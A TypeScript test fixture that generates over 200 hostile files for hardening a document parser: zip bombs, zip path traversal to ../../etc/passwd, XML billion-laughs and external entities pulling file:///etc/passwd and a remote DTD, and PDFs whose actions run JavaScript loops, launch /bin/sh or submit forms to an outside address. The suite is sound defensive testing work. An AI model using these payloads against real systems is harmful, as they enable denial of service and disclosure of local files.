import { strToU8, zipSync } from 'fflate'
import { sampleDocx, sampleJats, sampleMeca, samplePdf } from './sample.ts'
import { smallPdf } from './small-pdf.ts'

/** A word that hostile files hold, and that must be found nowhere afterwards. */
export const CANARY = 'xylothermograph'

export interface HostileFile {
  name: string
  bytes: Uint8Array
}

const latin = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))
const asLatin = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1')
const line = { text: CANARY, y: 100 }

/** Files that are made to hurt who reads them, at least 200 of them. */
export function hostileFiles(): HostileFile[] {
  return [...zips(), ...xmls(), ...pdfs(), ...broken()]
}

function zips(): HostileFile[] {
  const megabytes = new Uint8Array(60 * 2 ** 20)
  const document = (text: string) => zipSync({ 'word/document.xml': strToU8(text) })
  const manifest = strToU8('<manifest><item item-type="manuscript"><instance href="a.docx"/></item></manifest>')
  const many = Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`word/${at}.xml`, new Uint8Array()]))
  let nested: Uint8Array = sampleDocx()
  for (let depth = 0; depth < 10; depth++) nested = zipSync({ 'manifest.xml': manifest, 'a.docx': nested })
  return [
    { name: 'zip that shrinks a thousandfold', bytes: zipSync({ 'word/document.xml': megabytes }) },
    { name: 'zip with 5,000 entries', bytes: zipSync({ 'word/document.xml': strToU8('<a/>'), ...many }) },
    { name: 'zip in zip, ten times', bytes: nested },
    { name: 'zip that declares 2 GB', bytes: declaring(document('<w:document/>'), 2 ** 31 - 1) },
    { name: 'zip that declares one byte', bytes: declaring(sampleDocx(), 1) },
    {
      name: 'zip with a path upwards',
      bytes: zipSync({ '../../etc/passwd': strToU8(CANARY), 'word/document.xml': strToU8('<a/>') }),
    },
    {
      name: 'MECA that names a file elsewhere',
      bytes: sampleMeca(
        {},
        '<manifest><item item-type="manuscript"><instance href="file:///etc/passwd"/></item></manifest>',
      ),
    },
    { name: 'Word document nested too deeply', bytes: document('<p>'.repeat(100_000)) },
    {
      name: 'Word document with a linked picture',
      bytes: sampleDocx('<w:p><w:r><w:pict r:link="rId9" src="file:///etc/passwd"/></w:r></w:p>'),
    },
  ]
}

/** A zip whose directory gives other sizes than its entries have. */
function declaring(zip: Uint8Array, size: number): Uint8Array {
  const bytes = Uint8Array.from(zip)
  const view = new DataView(bytes.buffer)
  for (let at = 0; at + 28 < bytes.length; at++)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, size, true)
  return bytes
}

function xmls(): HostileFile[] {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')
  const head = `<!DOCTYPE article [<!ENTITY l0 "${CANARY}">${laughs}]>`
  const file =
    '<!DOCTYPE article [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://192.0.2.1/y.dtd">%y;]>'
  return [
    { name: 'XML with a billion laughs', bytes: strToU8(sampleJats(head).replace('Carbon in', '&l9;')) },
    { name: 'XML with entities of files and addresses', bytes: strToU8(sampleJats(file).replace('Carbon in', '&x;')) },
    { name: 'XML nested too deeply', bytes: strToU8(`<article>${'<sec>'.repeat(200_000)}`) },
    {
      name: 'XML with a million attributes',
      bytes: strToU8(`<article ${Array.from({ length: 300_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`),
    },
    { name: 'XML that never ends', bytes: strToU8(`<article><front><article-meta>${CANARY.repeat(1_000)}`) },
    {
      name: 'XML with a text of 20 MB',
      bytes: strToU8(`<article><body><sec><p>${'a '.repeat(10 * 2 ** 20)}</p></sec></body></article>`),
    },
  ]
}

function pdfs(): HostileFile[] {
  const action = (what: string) => smallPdf({ pages: [[line]], catalogue: `/OpenAction << ${what} >>` })
  const plain = asLatin(smallPdf({ pages: [[line]] }))
  const links = ['file:///etc/passwd', 'http://192.0.2.1/', 'javascript:app.alert(1)', '\\\\192.0.2.1\\share']
  return [
    { name: 'PDF with a script', bytes: action('/S /JavaScript /JS (while(true){})') },
    { name: 'PDF that launches a program', bytes: action('/S /Launch /F (/bin/sh)') },
    { name: 'PDF that opens an address', bytes: action('/S /URI /URI (http://192.0.2.1/)') },
    { name: 'PDF that submits a form', bytes: action('/S /SubmitForm /F (http://192.0.2.1/)') },
    ...links.map((url) => ({
      name: `PDF with a link to ${url}`,
      bytes: smallPdf({ pages: [[line]], links: [{ url, rect: [0, 0, 99, 99] }] }),
    })),
    { name: 'PDF whose pages are their own parents', bytes: latin(plain.replace('/Kids [6 0 R]', '/Kids [2 0 R]')) },
    { name: 'PDF with two billion pages', bytes: latin(plain.replace('/Count 1', '/Count 2147483647')) },
    { name: 'PDF with 3,000 pages', bytes: smallPdf({ pages: Array.from({ length: 3_000 }, () => [line]) }) },
    { name: 'PDF whose length is itself', bytes: latin(plain.replace(/\/Length \d+/, '/Length 7 0 R')) },
    {
      name: 'PDF that draws itself',
      bytes: latin(plain.replace('/F3 5 0 R >>', '/F3 5 0 R >> /XObject << /X 7 0 R >>').replace('BT', '/X Do BT')),
    },
    { name: 'PDF with brackets to the end', bytes: latin(`%PDF-1.7\n1 0 obj\n${'['.repeat(2_000_000)}`) },
    {
      name: 'PDF with a line of a million letters',
      bytes: smallPdf({ pages: [[{ text: CANARY.repeat(70_000), y: 100 }]] }),
    },
    {
      name: 'PDF with 40,000 lines',
      bytes: smallPdf({ pages: [Array.from({ length: 40_000 }, (_, at) => ({ ...line, y: 10 + (at % 800) }))] }),
    },
  ]
}

/** Small files cut off, and with bytes changed: always in the same places. */
function broken(): HostileFile[] {
  const whole = [
    { name: 'PDF', bytes: samplePdf([line]) },
    { name: 'Word document', bytes: sampleDocx() },
    { name: 'JATS', bytes: strToU8(sampleJats()) },
  ]
  return whole.flatMap(({ name, bytes }) => [
    ...Array.from({ length: 30 }, (_, at) => ({
      name: `${name} cut off, ${at + 1} of 30`,
      bytes: bytes.slice(0, Math.floor((bytes.length * (at + 1)) / 31)),
    })),
    ...Array.from({ length: 30 }, (_, at) => ({ name: `${name} garbled, ${at + 1} of 30`, bytes: garbled(bytes, at) })),
  ])
}

function garbled(bytes: Uint8Array, seed: number): Uint8Array {
  const changed = Uint8Array.from(bytes)
  let state = seed + 1
  for (let count = 0; count < 20; count++) {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31
    changed[state % changed.length] = state % 251
  }
  return changed
}
